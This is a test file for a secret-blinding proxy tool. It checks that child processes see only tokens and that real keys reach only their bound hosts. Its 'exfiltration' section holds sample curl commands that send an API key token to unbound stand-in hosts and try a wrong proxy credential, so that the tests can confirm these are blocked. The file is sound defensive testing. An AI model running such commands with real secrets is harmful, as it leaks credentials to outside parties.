// kz run --blind end to end: the compiled kz, real clients (curl, Python requests and httpx, Bun's
// fetch) as the child, and a recording HTTPS upstream whose test CA only kz trusts (upstream_ca).
// Every test checks what the upstream received AND what the child could see.

import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { Sandbox, type KzResult } from "../helpers/kz.ts";
import { startAwsSmServer, type AwsSmServer } from "../servers/aws-sm.ts";
import { startHttpsUpstream, type HttpsUpstream, type RecordedRequest } from "../servers/https-upstream.ts";

const API_KEY = "sk-fake-blind-api-key-000000000001";
const OTHER_KEY = "fake-other-service-key-000000002";
const FROM_ENV = "fake-env-sourced-secret-0000003";
const RAW = "fake-raw-passed-value-000000004";
const AWS = { accessKeyId: "AKIAFAKEBLIND0000001", secretAccessKey: "fakeBlindSecretAccessKey0000000000000000" };
const REAL_VALUES = [API_KEY, OTHER_KEY, FROM_ENV, AWS.accessKeyId, AWS.secretAccessKey];

const API = "api.example.test";
const OTHER = "other.example.test";
const UNBOUND = "unbound.example.test";

let box: Sandbox;
let upstream: HttpsUpstream;
let aws: AwsSmServer;
const python = "/usr/bin/python3";

beforeAll(async () => {
  upstream = await startHttpsUpstream({ hostnames: [API, OTHER, UNBOUND] });
  aws = startAwsSmServer({
    region: "us-east-1",
    credentials: [AWS],
    secrets: [{ name: "app/config", versions: [{ versionId: "v1", stages: ["AWSCURRENT"], string: "plain-config-value" }] }],
  });
  const awsPort = new URL(aws.url).port;
  box = new Sandbox({ SOURCE_VAR: FROM_ENV, VAULT_TOKEN: "fake-vault-token-should-not-pass", HARMLESS: "stays" });
  box.write(
    ".keyzero.toml",
    `[blind]
upstream_ca = "${upstream.caFile}"
resolve = { "${API}:443" = "127.0.0.1:${upstream.port}", "${OTHER}:443" = "127.0.0.1:${upstream.port}", "${UNBOUND}:443" = "127.0.0.1:${upstream.port}" }

[secrets]
API_KEY = { provider = "local", hosts = ["${API}"], swap = ["header", "query", "body"] }
OTHER_KEY = { provider = "local", hosts = ["${OTHER}"] }
FROM_ENV = { provider = "env", ref = "SOURCE_VAR", hosts = ["${API}"] }
RAW_ONE = { provider = "local", blind = false }
AWS_ACCESS_KEY_ID = { provider = "local", hosts = ["127.0.0.1:${awsPort}"] }
AWS_SECRET_ACCESS_KEY = { provider = "local", hosts = ["127.0.0.1:${awsPort}"] }
`,
  );
  await box.put("API_KEY", API_KEY);
  await box.put("OTHER_KEY", OTHER_KEY);
  await box.put("RAW_ONE", RAW);
  await box.put("AWS_ACCESS_KEY_ID", AWS.accessKeyId);
  await box.put("AWS_SECRET_ACCESS_KEY", AWS.secretAccessKey);
  expect((await box.kz(["allow"])).code).toBe(0); // the user approves these bindings
});

afterAll(() => {
  upstream?.stop();
  aws?.stop();
  box?.cleanup();
});

function blind(cmd: string[], flags: string[] = []): Promise<KzResult> {
  return box.kz(["run", "--blind", ...flags, "--", ...cmd]);
}

function newRequests<T>(work: () => Promise<T>): Promise<{ result: T; seen: RecordedRequest[] }> {
  const before = upstream.requests.length;
  return work().then((result) => ({ result, seen: upstream.requests.slice(before) }));
}

function expectNoRealValue(text: string) {
  for (const v of REAL_VALUES) expect(text).not.toContain(v);
}

describe("the child holds tokens", () => {
  test("every secret is a token, no inherited variable holds a real value, backend credentials are gone", async () => {
    const r = await blind(["/usr/bin/env"], ["--no-masking"]); // masking would hide a leak from this check
    expect(r.code).toBe(0);
    expectNoRealValue(r.stdout);
    const env = Object.fromEntries(r.stdout.trim().split("\n").map((l) => [l.slice(0, l.indexOf("=")), l.slice(l.indexOf("=") + 1)]));
    expect(env.API_KEY).toMatch(/^KZ_TOK_[A-Za-z0-9_-]{20,}$/);
    expect(env.FROM_ENV).toMatch(/^KZ_TOK_/);
    expect(env.SOURCE_VAR).toBeUndefined(); // the env provider's source holds the real value
    expect(env.VAULT_TOKEN).toBeUndefined();
    expect(env.HARMLESS).toBe("stays");
    expect(env.RAW_ONE).toBe(RAW); // blind = false: passed raw, on purpose
    expect(env.HTTPS_PROXY).toMatch(/^http:\/\/kz:[^@]+@127\.0\.0\.1:\d+$/);
    expect(env.NODE_USE_ENV_PROXY).toBe("1");
    expect(env.SSL_CERT_FILE).toBe(env.REQUESTS_CA_BUNDLE!);
    expect(env.NODE_EXTRA_CA_CERTS).not.toBe(env.SSL_CERT_FILE!);
    expect(new Set(Object.values(env).filter((v) => v.startsWith("KZ_TOK_"))).size).toBe(5);
  });

  test("--print-env shows tokens and trust variables, never a value", async () => {
    const r = await box.kz(["run", "--blind", "--print-env"]);
    expect(r.code).toBe(0);
    expectNoRealValue(r.stdout);
    expect(r.stdout).not.toContain(RAW);
    expect(r.stdout).toMatch(/^API_KEY=KZ_TOK_/m);
    expect(r.stdout).toContain("RAW_ONE=[kz:redacted");
    expect(r.stdout).toMatch(/^CURL_CA_BUNDLE=/m);
  });

  test("tokens are fresh every run", async () => {
    const a = await box.kz(["run", "--blind", "--print-env"]);
    const b = await box.kz(["run", "--blind", "--print-env"]);
    const token = (text: string) => /^API_KEY=(.*)$/m.exec(text)![1];
    expect(token(a.stdout)).not.toBe(token(b.stdout));
  });

  test("a blinded secret without hosts stops the run before anything starts (exit 3)", async () => {
    box.write(".nohosts.toml", `[secrets]\nAPI_KEY = { provider = "local" }\n`);
    const r = await box.kz(["run", "--blind", "--config", ".nohosts.toml", "--", "sh", "-c", "echo started"]);
    expect(r.code).toBe(3);
    expect(r.stdout).toBe("");
    expect(r.stderr).toContain('API_KEY: blind mode needs hosts = ["api.example.com"]');
  });
});

describe("swaps on bound hosts, with real clients", () => {
  test("curl: bearer header reaches the upstream as the real value; the echo comes back masked", async () => {
    const { result, seen } = await newRequests(() => blind(["sh", "-c", `curl -sS https://${API}/echo -H "Authorization: Bearer $API_KEY"`]));
    expect(result.code).toBe(0);
    expect(seen).toHaveLength(1);
    expect(seen[0]!.headers.authorization).toBe(`Bearer ${API_KEY}`);
    expectNoRealValue(result.stdout); // the upstream echoed the header; the child sees a same-length mask
    expect(JSON.parse(result.stdout).headers.authorization).toMatch(/^Bearer KZ_TOK_/);
  });

  test("python requests: custom header and query string", async () => {
    const script = `import os, requests
r = requests.get("https://${API}/echo", params={"key": os.environ["API_KEY"]}, headers={"X-API-Key": os.environ["FROM_ENV"]})
print(r.status_code, r.text)`;
    const { result, seen } = await newRequests(() => blind([python, "-c", script]));
    expect(result.stderr).toBe("");
    expect(result.stdout).toStartWith("200 ");
    expect(seen[0]!.headers["x-api-key"]).toBe(FROM_ENV);
    expect(seen[0]!.path).toBe(`/echo?key=${API_KEY}`);
    expectNoRealValue(result.stdout);
  });

  test("python httpx: JSON body and Basic auth", async () => {
    const script = `import os, httpx
r = httpx.post("https://${API}/echo", json={"token": os.environ["API_KEY"]}, auth=("user", os.environ["FROM_ENV"]))
print(r.status_code)`;
    const { result, seen } = await newRequests(() => blind([python, "-c", script]));
    expect(result.stdout.trim()).toBe("200");
    expect(JSON.parse(seen[0]!.body.toString())).toEqual({ token: API_KEY });
    expect(Number(seen[0]!.headers["content-length"])).toBe(seen[0]!.bodyLength);
    expect(seen[0]!.headers.authorization).toBe(`Basic ${Buffer.from(`user:${FROM_ENV}`).toString("base64")}`);
  });

  test("Bun fetch through HTTPS_PROXY", async () => {
    const script = `const r = await fetch("https://${API}/echo", { headers: { authorization: "Bearer " + process.env.API_KEY } }); console.log(r.status);`;
    const { result, seen } = await newRequests(() => blind([process.execPath, "-e", script]));
    expect(result.stdout.trim()).toBe("200");
    expect(seen[0]!.headers.authorization).toBe(`Bearer ${API_KEY}`);
  });

  test("a 50 MB download streams through intact", async () => {
    const { result } = await newRequests(() => blind(["sh", "-c", `curl -sS https://${API}/download?bytes=52428800 | sha256sum`]));
    expect(result.code).toBe(0);
    expect(result.stdout.split(" ")[0]).toBe(upstream.downloads.at(-1)!);
  });

  test("an AWS SigV4 request signed with token credentials is re-signed and verified upstream", async () => {
    const signer = join(import.meta.dir, "../../node_modules/@smithy/signature-v4/dist-cjs/index.js");
    const script = `
const { SignatureV4 } = require(${JSON.stringify(signer)});
const { createHash, createHmac } = require("node:crypto");
class Sha256 { // the hash SignatureV4 wants: HMAC when given a secret
  constructor(secret) { this.h = secret ? createHmac("sha256", secret) : createHash("sha256"); }
  update(data) { this.h.update(data); }
  async digest() { return new Uint8Array(this.h.digest()); }
}
const url = new URL(${JSON.stringify(aws.url)});
const body = JSON.stringify({ SecretId: "app/config" });
const signer = new SignatureV4({ service: "secretsmanager", region: "us-east-1", sha256: Sha256,
  credentials: { accessKeyId: process.env.AWS_ACCESS_KEY_ID, secretAccessKey: process.env.AWS_SECRET_ACCESS_KEY } });
const req = await signer.sign({ method: "POST", protocol: "http:", hostname: url.hostname, port: Number(url.port), path: "/",
  headers: { host: url.host, "content-type": "application/x-amz-json-1.1", "x-amz-target": "secretsmanager.GetSecretValue" }, body });
const r = await fetch(url.origin + "/", { method: "POST", headers: req.headers, body, proxy: process.env.HTTP_PROXY });
const text = await r.text();
console.log(r.status, r.status === 200 ? JSON.parse(text).SecretString : text);`;
    const before = aws.reads.length;
    const r = await blind([process.execPath, "-e", script]);
    expect(r.stderr).toBe("");
    expect(r.stdout.trim()).toBe("200 plain-config-value");
    expect(aws.reads.slice(before)).toEqual(["app/config"]);
    expect(aws.rejections).toEqual([]);
  });
});

describe("exfiltration", () => {
  test("a token sent to an intercepted host it is not bound to is refused; the upstream never sees it", async () => {
    const { result, seen } = await newRequests(() =>
      blind(["sh", "-c", `curl -sS -o /dev/null -w "%{http_code}" https://${OTHER}/echo -H "Authorization: Bearer $API_KEY"`]),
    );
    expect(result.stdout).toBe("403");
    expect(seen).toHaveLength(0);
    expect(result.stderr).toContain(`blind: blocked API_KEY → ${OTHER}`);
    const audit = readFileSync(join(box.dir, "state/keyzero/audit.jsonl"), "utf8");
    expect(audit).toContain('"event":"blind.refusal"');
    expectNoRealValue(audit);
  });

  test("a token sent to a host no secret is bound to is tunnelled untouched and arrives inert", async () => {
    const { result, seen } = await newRequests(() =>
      blind(["sh", "-c", `curl -sS --cacert ${upstream.caFile} https://${UNBOUND}/echo -H "Authorization: Bearer $API_KEY"`]),
    );
    expect(result.code).toBe(0);
    expect(seen[0]!.headers.authorization).toMatch(/^Bearer KZ_TOK_/);
    expectNoRealValue(JSON.stringify(seen[0]));
  });

  test("the proxy demands its per-run credential (407)", async () => {
    const r = await blind(["sh", "-c", `curl -sS -o /dev/null -w "%{http_connect}" --proxy "http://kz:wrong@\${HTTPS_PROXY##*@}" https://${API}/echo`]);
    expect(r.stdout).toBe("407");
  });

  test("100 concurrent requests all swap correctly", async () => {
    const script = `const rs = await Promise.all(Array.from({ length: 100 }, (_, i) => fetch("https://${API}/echo?i=" + i, { headers: { authorization: "Bearer " + process.env.API_KEY } }).then((r) => r.status)));
console.log(rs.filter((s) => s === 200).length);`;
    const { result, seen } = await newRequests(() => blind([process.execPath, "-e", script]));
    expect(result.stdout.trim()).toBe("100");
    expect(seen).toHaveLength(100);
    expect(seen.every((s) => s.headers.authorization === `Bearer ${API_KEY}`)).toBe(true);
  });
});
